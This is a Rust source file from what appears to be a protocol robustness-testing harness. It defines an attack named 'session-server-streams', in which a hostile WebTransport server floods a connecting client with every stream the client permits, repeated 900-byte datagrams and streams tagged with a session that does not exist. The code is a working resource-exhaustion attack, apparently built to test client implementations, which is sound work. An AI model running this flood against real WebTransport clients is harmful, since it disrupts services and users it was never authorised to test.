//! A server that floods a client of WebTransport with streams.

use std::collections::BTreeMap;

use courser_base::{Side, Time};
use courser_wire::{Direction, StreamId, TransportParameters};

use crate::attack::{Attack, Expect, Pace, Plan, Victim};
use crate::attacker::Attacker;
use crate::connection::Connection;
use crate::hooks::Hooks;
use crate::http;
use crate::sessions;
use crate::tls::server_tls;

pub(super) const PLAN: Plan = Plan {
    name: "session-server-streams",
    labels: &["A349"],
    summary: "a server that accepts a session and opens streams and sends datagrams, also of sessions that do not exist",
    victim: Victim::SessionClient,
    expect: Expect::ANY,
    make: || Box::new(Flood::default()),
};

/// The progress of each client.
#[derive(Default)]
struct Flood(BTreeMap<u64, Progress>);

#[derive(Default)]
struct Progress {
    is_set_up: bool,
    is_accepted: bool,
    /// Streams in one direction and in both, without those of HTTP/3.
    uni: u64,
    bidi: u64,
}

impl Attack for Flood {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.accept_with(server_tls(b"h3"), || Box::new(Keeping));
    }

    fn turn(&mut self, attacker: &mut Attacker, _now: Time) -> Pace {
        for key in attacker.keys() {
            let is_gone = attacker.peek(key).is_none_or(Connection::is_closed);
            if is_gone {
                attacker.forget(key);
                self.0.remove(&key);
                continue;
            }
            if !attacker.peek(key).is_some_and(Connection::is_confirmed) {
                continue;
            }
            let progress = self.0.entry(key).or_default();
            if let Some(connection) = attacker.connection(key) {
                flood(connection, progress);
            }
        }
        Pace::Now
    }
}

/// A server that sees whether the request has arrived.
struct Keeping;

impl Hooks for Keeping {
    fn edit_parameters(&mut self, parameters: &mut TransportParameters) {
        sessions::with_datagrams(parameters);
        parameters.reset_stream_at = true;
    }

    fn keeps_streams(&self) -> bool {
        true
    }
}

fn flood(connection: &mut Connection, progress: &mut Progress) {
    if !progress.is_set_up {
        progress.is_set_up = true;
        let mut settings = sessions::SETTINGS.to_vec();
        settings.push((0x14e9_cd29, 16));
        sessions::preface(connection, &settings);
    }
    let parameters = connection.peer_parameters();
    let initial = |read: fn(&TransportParameters) -> u64| parameters.as_ref().map_or(0, read);
    let uni = initial(|it| it.initial_max_streams_uni).max(connection.seen().max_streams_uni);
    let bidi = initial(|it| it.initial_max_streams_bidi).max(connection.seen().max_streams_bidi);
    for _ in 0..16 {
        // Every fourth stream has the number of a session that does not exist.
        if progress.uni + 2 < uni {
            let id = sessions::server_stream(progress.uni + 2);
            push(connection, id, progress.uni);
            progress.uni += 1;
        }
        if progress.bidi < bidi {
            let id = StreamId::new(Side::Server, Direction::Bidirectional, progress.bidi);
            push(connection, id, progress.bidi);
            progress.bidi += 1;
        }
        let session = http::request_stream(progress.uni % 2);
        connection.push_bytes(sessions::datagram(session, &[0x5a; 900]));
    }
    if progress.uni + 2 == uni && progress.bidi == bidi {
        accept(connection, progress);
    }
}

/// Responds to the request once it has arrived and all streams wait for it that the client permits.
fn accept(connection: &mut Connection, progress: &mut Progress) {
    let request = http::request_stream(0);
    if progress.is_accepted || connection.seen().stream(request).0.is_empty() {
        return;
    }
    progress.is_accepted = true;
    // Static entry 25 is the status 200.
    let response = http::frame(http::HEADERS, &[0, 0, 0xc0 | 25]);
    connection.push_bytes(http::stream(request, 0, &response, false));
}

fn push(connection: &mut Connection, id: StreamId, number: u64) {
    let session = if number % 4 == 3 { 4 } else { 0 };
    connection.push_bytes(sessions::whole_stream(id, session, &[0x5a; 200]));
}
